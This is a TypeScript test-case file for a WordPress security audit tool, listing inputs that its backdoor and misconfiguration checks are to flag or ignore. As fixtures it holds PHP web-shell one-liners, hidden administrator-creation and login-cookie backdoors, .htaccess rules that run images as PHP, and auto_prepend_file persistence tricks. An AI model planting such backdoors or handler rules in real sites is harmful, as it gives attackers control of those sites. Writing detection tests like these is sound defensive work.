import type { CheckName } from '../../../../src-main/contract/findings.ts';
import type { AuditReading } from '../../../../src-main/wordpress/audit-reading.ts';
import type { CronEvent } from '../../../../src-main/wordpress/cron.ts';
import type { ConfigStatement, DatabaseAccount } from '../../../../src-main/wordpress/door-reading.ts';
import type { LeakKind } from '../../../../src-main/wordpress/leaks.ts';
import { files } from './a-files.ts';
import { blog, now, person, reading } from './a-reading.ts';
import type { Cases } from './cases.ts';

const event = (hook: string, more: Partial<CronEvent> = {}): CronEvent => ({
  ...{ hook, at: now + 60, schedule: 'daily', code: false },
  ...more,
});
const planned = (...events: CronEvent[]) => ({ blogs: [blog({ planned: events })] });
const account = (name: string, more: Partial<DatabaseAccount> = {}): DatabaseAccount => ({
  ...{ name, own: false, everywhere: [], writesHere: true },
  ...more,
});
const statement = (sure: ConfigStatement['sure'], what: string) =>
  reading({ configStatements: [{ path: '/srv/site/wp-config.php', line: 3, digest: 'd', sure, what }] });
const leak = (kind: LeakKind, path: string) => reading({ leaks: [{ kind, path }] });
const version = (wordpress: string | null, php: string | null = null) =>
  reading({ versions: { wordpress, php: php === null ? null : { version: php, from: 'web' } } });
const idle = new Map([['akismet', { version: '5.1', name: 'Akismet', checksums: null }]]);

const texts = (given: Record<string, string>) => reading({ files: files({ texts: given }), unread: new Map() });
/** As texts that are longer than what is read. */
function long(given: Record<string, string>) {
  const all = files({ texts: given });
  return reading({
    files: { ...all, texts: new Map([...all.texts].map(([path, { text }]) => [path, { text, cut: true }])) },
  });
}
const key = 'AAAAC3NzaC1lZDI1NTE5AAAAIIpNv7a4Y6Y8xPb5oZ0hVnVnYw3c5b1yJ4d5c6b7a8d9';

type DoorCheck =
  | 'user-token'
  | 'jwt-secret'
  | 'cloud-token'
  | 'database-user'
  | 'cron-hook'
  | 'wp-config-statement'
  | 'backup-readable'
  | 'git-readable'
  | 'debug-log-readable'
  | 'uploads-listed'
  | 'wordpress-version'
  | 'php-version'
  | 'inactive-plugin'
  | 'htaccess'
  | 'user-ini'
  | 'mu-plugin'
  | 'drop-in'
  | 'theme-functions'
  | 'authorized-keys';

export const doorCases: Pick<Record<CheckName, Cases>, DoorCheck> = {
  'user-token': {
    finds: [
      [
        reading({
          persons: [person(7, ['administrator'])],
          userTokens: [
            { userId: 7, key: 'wp_googlesitekit_access_token' },
            { userId: 7, key: 'wp_googlesitekit_refresh_token' },
          ],
        }),
        'low, unlikely',
      ],
      [reading({ userTokens: [{ userId: 9, key: 'wp_elementor_connect_common_data' }] }), 'low, unlikely'],
    ],
    leaves: [reading({ userTokens: [{ userId: 9, key: 'wp_capabilities' }] })],
  },
  'cloud-token': {
    finds: [[reading({ blogs: [blog({ cloudOptions: ['updraft_dropbox'] })] }), 'low, unlikely']],
    leaves: [reading()],
  },
  'jwt-secret': {
    finds: [
      [reading({ jwtSecret: 'placeholder' }), 'critical, certain'],
      [reading({ jwtSecret: 'short' }), 'medium, possible'],
      [reading({ jwtSecret: 'long' }), 'low, unlikely'],
    ],
    leaves: [reading()],
  },
  'database-user': {
    finds: [
      [reading({ accounts: [account(`'shop'@'%'`, { own: true })] }), 'low, unlikely'],
      [
        reading({ accounts: [account(`'root'@'localhost'`, { own: true, everywhere: ['SUPER'] })] }),
        'medium, possible',
      ],
      [reading({ accounts: [account(`'ghost'@'%'`, { everywhere: ['INSERT'] })] }), 'medium, possible'],
      [reading({ accounts: [account(`'old'@'localhost'`)] }), 'low, unlikely'],
    ],
    leaves: [
      reading({ accounts: [account(`'shop'@'127.0.0.1'`, { own: true })] }),
      reading({ accounts: [account(`'root'@'localhost'`, { everywhere: ['SUPER', 'INSERT'] })] }),
      reading({ accounts: [account(`'other'@'%'`, { writesHere: false })] }),
    ],
  },
  'cron-hook': {
    finds: [
      [reading(planned(event('wp_check_x', { code: true }))), 'high, likely'],
      [reading(planned(event('\u0001\u0002'))), 'low, possible'],
      [reading({ ...planned(event('gone_plugin_daily')), cronWithoutCode: ['gone_plugin_daily'] }), 'low, unlikely'],
    ],
    leaves: [reading(planned(event('wp_version_check'), event('woocommerce_cleanup_sessions')))],
  },
  'wp-config-statement': {
    finds: [
      [statement('certain', 'It runs code that a request gives (eval)'), 'critical, certain'],
      [statement('likely', 'It speaks to another server'), 'high, likely'],
      [statement('possible', 'It runs code after WordPress was loaded'), 'medium, possible'],
      [statement('unlikely', 'It defines a function'), 'low, unlikely'],
    ],
    leaves: [reading()],
  },
  'backup-readable': {
    finds: [
      [leak('configuration', 'wp-config.php.bak'), 'critical, certain'],
      [leak('dump', 'db.sql'), 'high, certain'],
      [leak('archive', 'site-backup.zip'), 'medium, likely'],
      [leak('archive', 'wp-content/uploads/brochures.zip'), 'low, possible'],
    ],
    leaves: [leak('log', 'error_log')],
  },
  'git-readable': { finds: [[leak('repository', '.git/HEAD'), 'high, certain']], leaves: [leak('log', 'error_log')] },
  'debug-log-readable': {
    finds: [[leak('log', 'wp-content/debug.log'), 'medium, certain']],
    leaves: [leak('repository', '.git/HEAD')],
  },
  'uploads-listed': {
    finds: [[leak('listing', 'wp-content/uploads/'), 'low, unlikely']],
    leaves: [leak('log', 'error_log')],
  },
  'wordpress-version': {
    finds: [
      [version('4.6.29'), 'medium, possible'],
      [version('6.1.9'), 'low, unlikely'],
    ],
    leaves: [version('7.1'), version('7.2-beta1'), version(null)],
  },
  'php-version': {
    finds: [
      [version('7.1', '7.4.33'), 'low, possible'],
      [version('7.1', '5.2.17'), 'low, possible'],
    ],
    leaves: [version('7.1', '8.3.1'), version('7.1', '9.9.0'), version('7.1')],
  },
  'inactive-plugin': {
    finds: [[reading({ files: files({ plugins: idle }) }), 'low, unlikely']],
    leaves: [
      reading({ files: files({ plugins: idle }), blogs: [blog({ activePlugins: ['akismet/akismet.php'] })] }),
      reading({ files: files({ plugins: idle }), blogs: [blog({ activePlugins: null })] }),
      reading(),
    ],
  },
  htaccess: {
    finds: [
      [texts({ 'wp-content/uploads/.htaccess': 'SetHandler application/x-httpd-php' }), 'high, likely'],
      [texts({ '.htaccess': 'AddHandler application/x-httpd-php .jpg' }), 'high, likely'],
      [texts({ '.htaccess': 'AddType application/x-httpd-ea-php81 .php \\\n .gif' }), 'high, likely'],
      [
        texts({ '.htaccess': '<FilesMatch "\\.png$">\nSetHandler proxy:unix:/run/php-fpm.sock\n</FilesMatch>' }),
        'high, likely',
      ],
      [texts({ '.htaccess': 'php_value auto_prepend_file "/tmp/.x.php"' }), 'high, likely'],
      // As Apache joins and unquotes; the second hides behind what looks like a comment that goes on.
      ...[
        'php_value auto_prep\\\nend_file /tmp/x',
        '# nothing \\ \nphp_value auto_prepend_file /tmp/x',
        "php_value 'auto_prepend_file' '/tmp/x'",
        'php_value auto_prepend_file /tmp/x\\',
        'SetEnv PHP_VALUE "auto_prepend_file=/tmp/x"',
        'RewriteRule ^ - [E=PHP_VALUE:auto_prepend_file=/tmp/x]',
        'SetHandler application/x-httpd-php',
        '<Files "photo.jpg">\nSetHandler application/x-httpd-php\n</Files>',
        '<FilesMatch "\\.(php|jpg)$">\nSetHandler application/x-httpd-php\n</FilesMatch>',
        '<FilesMatch "\\.ph|.">\n<RequireAll>\n</RequireAll>\nSetHandler application/x-httpd-php\n</FilesMatch>',
        'AddHandler x-mapp-php8 .png',
        'Options +ExecCGI\nAddHandler cgi-script .alfa',
      ].map((text): [AuditReading, string] => [texts({ '.htaccess': text }), 'high, likely']),
      [texts({ '.htaccess': 'AddHandler cgi-script .jpg' }), 'medium, possible'],
      [texts({ 'wp-content/x/.htaccess': 'Options ExecCGI\nAddHandler cgi-script .pl' }), 'medium, possible'],
      [texts({ '.htaccess': 'AddHandler application/x-httpd-php .html .inc' }), 'low, unlikely'],
      [texts({ '.htaccess': 'php_value auto_prepend_file /srv/site/wordfence-waf.php' }), 'low, unlikely'],
      [
        texts({
          '.htaccess':
            'RewriteCond %{HTTP_REFERER} (google|bing) [NC]\nRewriteRule .* https://pills.example/ [R=302,L]',
        }),
        'high, certain',
      ],
      [
        texts({ '.htaccess': 'RewriteCond %{HTTP_USER_AGENT} android\nRewriteRule .* https://apk.example/ [R]' }),
        'medium, likely',
      ],
      [texts({ '.htaccess': 'RewriteRule ^shop$ /wp-content/uploads/a.php' }), 'high, likely'],
      [
        texts({ '.htaccess': '<FilesMatch "^(lock360.php|radio.php)$">\nAllow from all\n</FilesMatch>' }),
        'high, likely',
      ],
    ],
    leaves: [
      texts({
        '.htaccess': [
          '# BEGIN WordPress\n<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteBase /\nRewriteRule ^index\\.php$ - [L]',
          'RewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule . /index.php [L]\n</IfModule>\n# END WordPress',
          'AddHandler application/x-httpd-ea-php81 .php .php8 .phtml',
          '<FilesMatch "\\.(php4|php5|phtml)$">\nSetHandler application/x-httpd-ea-php81\n</FilesMatch>',
          'RewriteCond %{HTTPS} off\nRewriteRule ^ https://%{HTTP_HOST}%{REQUEST_URI} [R=301,L]',
          'RewriteCond %{HTTP_HOST} ^old\\.test$\nRewriteRule ^(.*)$ https://new.test/$1 [R=301,L]',
          'RewriteCond %{HTTP_USER_AGENT} "android|iphone"\nRewriteRule ^$ https://m.client.test/ [R]',
          'RewriteCond %{HTTP_USER_AGENT} badbot\nRewriteRule .* - [F]',
          'php_value upload_max_filesize 64M\nphp_value auto_prepend_file none',
          '# SetHandler application/x-httpd-php',
          '<FilesMatch ".+\\.ph(ar|p|tml)$">\n<RequireAll>\n</RequireAll>\nSetHandler application/x-httpd-php\n</FilesMatch>',
          '<Files *.php>\nSetHandler x\n</Files>\n<If "%{REQUEST_URI} =~ m#\\.php$#">\nSetHandler proxy:fcgi://a\n</If>',
          '# that is \\\nSetHandler application/x-httpd-php',
          'SetEnv PHP_VER 8_1\nAddHandler cgi-script .cgi .pl\nAddType text/x-php .inc',
        ].join('\n'),
        'wp-content/uploads/.htaccess': 'Options -Indexes\n<Files *.php>\ndeny from all\n</Files>',
        'wp-content/x/.htaccess': 'Options -ExecCGI\nAddHandler cgi-script .php .pl .sh',
      }),
    ],
  },
  'user-ini': {
    finds: [
      [texts({ '.user.ini': 'auto_prepend_file = /tmp/a.php' }), 'high, likely'],
      [texts({ '.user.ini': "auto_prepend_file = '/srv/site/wordfence-waf.php'" }), 'low, unlikely'],
      // To PHP a line ends with a carriage return alone, too, and not with what Unicode calls a line's end.
      ...[
        '; nothing\rauto_prepend_file=/tmp/a',
        'memory_limit=1G\rauto_prepend_file = x',
        'auto_prepend_file="/a\u2028b"',
      ].map((text): [AuditReading, string] => [texts({ '.user.ini': text }), 'high, likely']),
      [texts({ 'php.ini': 'allow_url_include=On' }), 'medium, possible'],
      [long({ '.user.ini': 'memory_limit=1G' }), 'medium, possible'],
      [texts({ 'php.ini': 'disable_functions = ""' }), 'low, possible'],
      [texts({ 'wp-admin/php.ini': 'extension=/tmp/x.so' }), 'high, likely'],
    ],
    leaves: [
      texts({ '.user.ini': 'memory_limit = 256M\n; auto_prepend_file = x\ndisable_functions = exec\nextension=gd' }),
    ],
  },
  'mu-plugin': {
    finds: [
      [texts({ 'wp-content/mu-plugins/x.php': `<?php @eval($_POST['x']);` }), 'critical, certain'],
      [texts({ 'wp-content/mu-plugins/x.php': `<?php eval(base64_decode($a));` }), 'high, likely'],
      [texts({ 'wp-content/mu-plugins/x.php': `<?php add_action('init', 'x');` }), 'medium, possible'],
      [texts({ 'wp-content/mu-plugins/kinsta-mu-plugins.php': `<?php require 'a.php';` }), 'low, unlikely'],
      [long({ 'wp-content/mu-plugins/kinsta-mu-plugins.php': '<?php // Silence' }), 'medium, possible'],
      [texts({ 'wp-content/mu-plugins/a/b.php': `<?php system($_GET['x']);` }), 'critical, certain'],
    ],
    leaves: [
      texts({
        'wp-content/mu-plugins/index.php': '<?php\n// Silence is golden.\n',
        'wp-content/mu-plugins/a/b.php': `<?php class A {}`,
        'wp-content/plugins/a.php': `<?php add_action('init', 'x');`,
      }),
    ],
  },
  'drop-in': {
    finds: [
      [
        texts({ 'wp-content/object-cache.php': `<?php // Redis Object Cache Drop-In\neval($_REQUEST['a']);` }),
        'critical, certain',
      ],
      [texts({ 'wp-content/db.php': `<?php $wpdb = new Mine();` }), 'medium, possible'],
      [texts({ 'wp-content/db.php': `<?php // Query Monitor\nif ($k) wp_set_auth_cookie('1');` }), 'high, likely'],
      [long({ 'wp-content/object-cache.php': '<?php // Redis Object Cache Drop-In\nclass A {}' }), 'low, unlikely'],
    ],
    leaves: [
      texts({
        'wp-content/object-cache.php': '<?php\n/** Plugin Name: Redis Object Cache Drop-In */ class A {}',
        'wp-content/advanced-cache.php': '<?php // WP Super Cache\nrequire "x.php";',
        'wp-content/maintenance.php': '<?php // Silence is golden.',
      }),
    ],
  },
  'theme-functions': {
    finds: [
      [texts({ 'wp-content/themes/a/functions.php': `<?php $f = $_GET['f']; $f($_GET['a']);` }), 'high, likely'],
      [texts({ 'wp-content/themes/a/functions.php': '<?php eval($code);' }), 'medium, possible'],
      [
        texts({
          'wp-content/themes/a/functions.php': `<?php add_action('wp_head', function () { if (md5($_GET['k']) === 'x') { $u = wp_create_user('a', 'b'); (new WP_User($u))->set_role('administrator'); } });`,
        }),
        'high, likely',
      ],
      [
        texts({ 'wp-content/themes/a/functions.php': `<?php if (isset($_GET['in'])) wp_set_auth_cookie(1);` }),
        'high, likely',
      ],
      [
        texts({
          'wp-content/themes/a/inc/x.php': `<?php wp_insert_user(['user_login' => 'a', 'role' => 'administrator']);`,
        }),
        'high, likely',
      ],
      // A comment stands between, and lines.
      [texts({ 'wp-content/themes/a/404.php': `<?php eval/* x */\n// y\n($_POST['a']);` }), 'critical, certain'],
      [long({ 'wp-content/themes/a/functions.php': '<?php add_action(1);' }), 'low, unlikely'],
    ],
    leaves: [
      texts({ 'wp-content/themes/child/functions.php': `<?php add_action('wp_enqueue_scripts', 'child_styles');` }),
      texts({
        'wp-content/themes/child/functions.php': `<?php $id = wp_insert_user(['role' => 'subscriber']); wp_set_auth_cookie($id); wp_set_current_user($user->ID); if (current_user_can('administrator')) a();`,
      }),
    ],
  },
  'authorized-keys': {
    finds: [
      [texts({ '/home/a/.ssh/authorized_keys': `ssh-ed25519 ${key} me@laptop` }), 'low, unlikely'],
      [
        texts({ '/home/a/.ssh/authorized_keys2': `command="/bin/sh -c \\"x, y\\"",no-pty ssh-rsa ${key}` }),
        'medium, possible',
      ],
    ],
    leaves: [texts({ '/home/a/.ssh/authorized_keys': `# ssh-ed25519 ${key}\n\nnonsense\n` })],
  },
};
